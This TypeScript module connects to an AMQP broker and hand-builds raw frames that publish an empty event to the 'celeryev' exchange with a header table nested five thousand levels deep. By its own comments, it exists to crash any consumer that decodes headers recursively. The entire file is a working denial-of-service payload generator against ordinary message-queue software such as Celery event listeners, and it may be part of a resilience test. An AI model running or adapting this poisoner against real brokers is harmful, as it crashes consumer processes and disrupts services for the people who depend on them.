import { connect } from 'amqplib'

/** What the library that publishes for us would die of itself is written byte by byte. */
interface RawConnection {
  sendBytes(bytes: Buffer): void
}

export interface Poisoner extends AsyncDisposable {
  /** Publishes an empty event whose header table is nested five thousand levels deep. */
  readonly send: () => void
}

const frameEnd = 0xce
const [methodFrame, headerFrame, basicClass, publishMethod, hasHeaders] = [1, 2, 60, 40, 1 << 13]

/** Connects to the broker, and can publish to `celeryev` what kills whoever decodes headers by recursion. */
export async function startPoisoner(url: string, levels = 5_000): Promise<Poisoner> {
  const connection = await connect(url)
  connection.on('error', () => undefined)
  await connection.createChannel()
  const raw = connection.connection as unknown as RawConnection
  const bytes = message(1, nestedTable(levels))
  return { send: () => raw.sendBytes(bytes), [Symbol.asyncDispose]: () => connection.close().catch(() => undefined) }
}

function message(channel: number, headers: Buffer): Buffer {
  const publish = Buffer.concat([
    uint16(basicClass),
    uint16(publishMethod),
    uint16(0),
    shortText('celeryev'),
    shortText('task.poison'),
    Buffer.of(0),
  ])
  const bodySize = Buffer.alloc(8)
  const properties = Buffer.concat([uint16(basicClass), uint16(0), bodySize, uint16(hasHeaders), headers])
  return Buffer.concat([frame(methodFrame, channel, publish), frame(headerFrame, channel, properties)])
}

/** A table that holds a table that holds a table…, as AMQP writes it: its length, then `a`, the letter F, and the next one. */
function nestedTable(levels: number): Buffer {
  const step = Buffer.concat([shortText('a'), Buffer.from('F')])
  const parts: Buffer[] = []
  for (let level = levels; level >= 0; level--) parts.push(uint32(level * (step.length + 4)), ...(level > 0 ? [step] : []))
  return Buffer.concat(parts)
}

function frame(type: number, channel: number, payload: Buffer): Buffer {
  return Buffer.concat([Buffer.of(type), uint16(channel), uint32(payload.length), payload, Buffer.of(frameEnd)])
}

function shortText(text: string): Buffer {
  return Buffer.concat([Buffer.of(Buffer.byteLength(text)), Buffer.from(text)])
}

function uint16(value: number): Buffer {
  const bytes = Buffer.alloc(2)
  bytes.writeUInt16BE(value)
  return bytes
}

function uint32(value: number): Buffer {
  const bytes = Buffer.alloc(4)
  bytes.writeUInt32BE(value)
  return bytes
}
